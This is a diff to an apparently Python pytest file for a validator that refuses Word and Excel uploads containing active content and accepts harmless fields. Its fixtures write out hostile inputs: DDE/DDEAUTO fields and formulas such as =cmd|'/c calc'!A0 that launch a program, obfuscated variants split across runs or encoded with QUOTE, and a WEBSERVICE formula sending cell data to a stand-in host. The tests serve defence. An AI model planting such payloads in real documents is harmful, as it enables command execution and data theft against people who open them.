@@ -43,28 +43,55 @@ def written(runs: str, part: str = "word/document.xml", alphabet: str = "UTF-8")
         written(f"{BEGIN}{says('DDEAUTO' + CALC)}{END}"),
         written(f"{BEGIN}{says(' QUOTE ')}{field('DDEAUTO' + CALC)}{SEPARATE}{END}"),
         written(f"{BEGIN}{says('DDE')}{field(' QUOTE 99 ')}{says(CALC)}{SEPARATE}{END}"),
+        written(f"{BEGIN}{field(' QUOTE 68 68 69 ')}{says(CALC)}{SEPARATE}{END}"),
+        written(f"{BEGIN}{says(' D')}{field(' QUOTE 68 69 ')}{says(CALC)}{SEPARATE}{END}"),
         written('<w:fldSimple w:instr="DDEAUTO c:\\calc"/>'),
+        written('<w:fldSimple w:instr=" &quot;IMPORT&quot; c:\\a.gif"/>'),
+        written(field('INCLUDEPICTURE\\d "https://x.example/a.png"')),
         written(says(f"DDEAUTO{CALC}")),
         written(field('INCLUDEPICTURE "https://x.example/a.png" \\d')),
         written(field('INCLUDETEXT "\\\\x.example\\a.docx"')),
         written(field("LINK Excel.Sheet.8 c:\\a.xlsx")),
         written(field("DATABASE \\d c:\\a.mdb")),
         written(field(f"DDEAUTO{CALC}"), part="word/header7.xml"),
+        written(field(f"DDEAUTO{CALC}"), part="word/footer1.xml"),
+        written(field(f"DDEAUTO{CALC}"), part="word/footnotes.xml"),
+        written(field(f"DDEAUTO{CALC}"), part="word/comments.xml"),
         written(field(f"DDEAUTO{CALC}"), part="word/glossary/any.name"),
         written(field(f"DDEAUTO{CALC}"), alphabet="UTF-16"),
     ],
 )
 def test_a_field_that_reaches_out_is_refused(data: bytes) -> None:
     said = refused(data)
-    assert "từ nơi khác" in said
+    assert "trường hoặc công thức gọi chương trình khác (DDE)" in said
+    assert "Ctrl+Shift+F9" in said
     assert "lưu thành PDF" in said
 
 
 @pytest.mark.parametrize(
-    "code", ["PAGE", "TOC \\o 1-3", "HYPERLINK https://example.vn", "DATE", "SEQ DDE", "REF dde"]
+    "code",
+    ["PAGE", "TOC \\o 1-3", "HYPERLINK https://example.vn", "DATE", "SEQ DDE", "REF dde", "LINKED x"],
 )
 def test_fields_that_stay_inside_are_fine(code: str) -> None:
     parts.refuse_active(written(field(code)))
+
+
+def test_fields_within_fields_are_fine() -> None:
+    """A table of contents holds one field for each of its lines; a condition asks another field."""
+    line = f"{BEGIN}{says('TOC')}{SEPARATE}{field('PAGEREF a')}{field('PAGEREF b')}{END}"
+    condition = f"{BEGIN}{says('IF ')}{field('MERGEFIELD a')}{says(' = 1 x')}{SEPARATE}{END}"
+    parts.refuse_active(written(line + condition))
+
+
+def test_a_code_of_many_runs_costs_no_more_than_its_length() -> None:
+    """Only the beginning of a code is kept: a million runs of one field are read in the time of a long text."""
+    reader = codes._Reader()
+    reader.start("fldChar", {"w:fldCharType": "begin"})
+    for _run in range(1000):
+        reader.start("instrText", {})
+        reader.text("x" * 1000)
+        reader.end("instrText")
+        assert len(reader.open[-1].code) <= codes.KEPT
 
 
 def test_words_about_it_are_not_it() -> None:
@@ -80,7 +107,15 @@ def sheet(formula: str) -> bytes:
 
 
 @pytest.mark.parametrize(
-    "formula", ["=cmd|'/c calc'!A0", "='cmd'|'/c calc'!'A0'", "=1+MSEXCEL|'..\\a.exe'!x"]
+    "formula",
+    [
+        "=cmd|'/c calc'!A0",
+        "='cmd'|'/c calc'!'A0'",
+        "=1+MSEXCEL|'..\\a.exe'!x",
+        '=_xlfn.WEBSERVICE("https://x.example/?"&A2)',
+        '=RTD("a.b",,"c")',
+        '=1+_xlfn.IMAGE ("https://x.example/a.png")',
+    ],
 )
 def test_a_formula_that_asks_a_program_is_refused(formula: str) -> None:
     assert "từ nơi khác" in refused(sheet(formula))
@@ -91,7 +126,32 @@ def test_a_name_that_stands_for_such_a_formula_is_refused() -> None:
     assert "từ nơi khác" in refused(changed(table(), **{"xl/workbook.xml": names}))
 
 
-@pytest.mark.parametrize("formula", ['="a|b"&A2', "='Thu|Chi'!A1", "=SUM(A2:A9)"])
+@pytest.mark.parametrize("tag", ["calculatedColumnFormula", "totalsRowFormula", "oldFormula"])
+def test_a_formula_of_a_column_is_one_too(tag: str) -> None:
+    told = f"<table><tableColumn><{tag}>cmd|'/c calc'!A0</{tag}></tableColumn></table>".encode()
+    assert "từ nơi khác" in refused(changed(table(), **{"xl/tables/table1.xml": told}))
+
+
+@pytest.mark.parametrize(
+    ("part", "told"),
+    [
+        ("word/settings.xml", "<w:mailMerge><w:connectString w:val='Provider=x'/></w:mailMerge>"),
+        ("xl/connections.xml", "<connection id='1' refreshOnLoad='1'><webPr url='https://x.example'/></connection>"),
+    ],
+)  # fmt: skip
+def test_rows_that_come_from_elsewhere_on_opening_are_refused(part: str, told: str) -> None:
+    assert "từ nơi khác" in refused(changed(docx(), **{part: f"<a xmlns:w='{WORD}'>{told}</a>".encode()}))
+
+
+def test_a_table_that_is_renewed_from_its_own_workbook_or_by_hand_is_fine() -> None:
+    own = b"<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='worksheet'/></pivotCacheDefinition>"
+    by_hand = b"<connections><connection id='1'><webPr url='https://x.example'/></connection></connections>"
+    parts.refuse_active(changed(table(), **{"xl/pivotCache/p.xml": own, "xl/connections.xml": by_hand}))
+
+
+@pytest.mark.parametrize(
+    "formula", ['="a|b"&A2', '="WEBSERVICE(1)"', "=SORTD(A1)", "='Thu|Chi'!A1", "=SUM(A2:A9)"]
+)
 def test_a_bar_in_quotes_is_only_a_bar(formula: str) -> None:
     parts.refuse_active(sheet(formula))
 
